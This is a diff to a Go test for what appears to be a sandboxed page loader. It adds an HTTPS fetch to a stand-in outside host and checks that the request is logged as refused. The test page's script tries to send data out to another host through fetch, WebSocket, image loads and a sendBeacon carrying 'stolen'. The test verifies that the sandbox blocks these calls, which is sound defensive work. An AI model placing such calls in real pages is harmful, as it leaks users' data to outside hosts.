@@ -306,6 +306,7 @@ try { new WebSocket('ws://` + out + `/ws'); } catch (e) {}
 fetch('http://` + out + `/fetch').catch(function(){});
 var i = new Image(); i.src = 'http://` + out + `/img.png'; document.body && document.body.appendChild(i);
 navigator.sendBeacon('http://` + out + `/beacon', 'stolen');
+fetch('https://elsewhere.example/secure').catch(function(){});
 </script><iframe src="http://` + out + `/frame"></iframe><img src="http://` + out + `/tag.png">`
 	c := load(t, map[string]string{"p.html": page}, "p.html", PageOptions{Observe: 1500 * time.Millisecond})
 	if n := hits.Load(); n != 0 {
@@ -324,6 +325,14 @@ navigator.sendBeacon('http://` + out + `/beacon', 'stolen');
 		if !found {
 			t.Errorf("attempt to %s not listed; requests %+v", path, c.Runtime.Requests)
 		}
+	}
+	// https to another host: the tunnel opens, the request in it is refused.
+	secure := false
+	for _, r := range c.Runtime.Requests {
+		secure = secure || (r.URL == "https://elsewhere.example/secure" && r.Blocked && strings.Contains(r.Reason, "not allowed"))
+	}
+	if !secure {
+		t.Errorf("https request to another host not listed as refused: %+v", c.Runtime.Requests)
 	}
 }
 
